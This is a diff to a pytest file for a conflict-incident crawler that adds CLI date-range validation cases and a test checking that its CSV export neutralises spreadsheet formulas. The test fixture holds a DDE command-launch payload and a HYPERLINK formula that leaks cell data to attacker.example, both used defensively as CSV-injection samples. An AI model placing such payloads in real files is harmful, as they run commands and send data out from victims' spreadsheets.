@@ -12,9 +12,9 @@ from pathlib import Path
 
 import pytest
 
-from crawler.export import ACLED_COLUMNS
+from crawler.export import ACLED_COLUMNS, as_csv
 from crawler.store import Store
-from extractors.models import ACTOR_IDS, INCIDENT_TYPES, Article, Incident
+from extractors.models import ACTOR_IDS, INCIDENT_TYPES, Article, Incident, Source
 from tests.conftest import RunRasad
 from tests.history_data import FilledStore, fill_store
 
@@ -95,7 +95,10 @@ def test_background(filled: FilledStore, run_rasad: RunRasad) -> None:
         (["--type", "bombing"], "--type 'bombing': unknown id; valid: " + ", ".join(INCIDENT_TYPES)),
         (["--actor", "ISIS"], "--actor 'ISIS': unknown id; valid: " + ", ".join(ACTOR_IDS)),
         (["--governorate", "Beirut"], "--governorate 'Beirut': not a Syrian governorate; one of: "),
-        (["--since", "yesterday"], "--since/--until 'yesterday': use 24h, 7d"),
+        (["--since", "yesterday"], "--since 'yesterday': use 24h, 7d"),
+        (["--until", "tomorrow"], "--until 'tomorrow': use 24h, 7d"),
+        (["--since", "99999999999d"], "--since '99999999999d': out of range"),
+        (["--until", "1000000w"], "--until '1000000w': out of range"),
         (["--date-from", "1/2/2024"], "--date-from '1/2/2024': use an ISO date"),
     ],
 )
@@ -172,3 +175,22 @@ def test_geojson_points_and_unplaced_counted(
     for feature, incident in zip(collection["features"], placed, strict=True):
         assert feature["geometry"] == {"type": "Point", "coordinates": [incident.lon, incident.lat]}
         assert feature["properties"]["types"] == list(incident.types) and "lat" not in feature["properties"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_stay_text() -> None:
+    """Outlets' text that starts like a formula gets an apostrophe (CSV injection); numbers, including
+    a negative one, and ordinary text are as they were."""
+    hostile = Incident(
+        types=("raid",), place="@SUM(1+1)*cmd|' /C calc'!A0", admin1="دير الزور", lat=35.3, lon=-40.1,
+        killed=2, evidence='=HYPERLINK("http://attacker.example/?"&A1,"اضغط هنا")',
+        sources=(Source("https://sy24.example/a", "sy24", "2025-01-02T09:00:00+03:00"),),
+    ).with_stable_id()  # fmt: skip
+    plain = replace(hostile, place="الرز", evidence="-- مداهمة في الرز", id="plain")
+    tab = replace(hostile, place="\tالرز", evidence="+963 رقم هاتف", id="tab")
+    rows = {r["event_id_cnty"]: r for r in csv.DictReader(io.StringIO(as_csv([hostile, plain, tab])))}
+    assert rows[hostile.id]["notes"] == "'" + hostile.evidence
+    assert rows[hostile.id]["location"] == "'" + (hostile.place or "")
+    assert rows[hostile.id]["longitude"] == "-40.1" and rows[hostile.id]["fatalities"] == "2"
+    assert (rows["plain"]["location"], rows["plain"]["notes"]) == ("الرز", "'-- مداهمة في الرز")
+    assert (rows["tab"]["location"], rows["tab"]["notes"]) == ("'\tالرز", "'+963 رقم هاتف")
+    assert rows["plain"]["source"] == "sy24" and rows["plain"]["event_date"] == "2025-01-02"
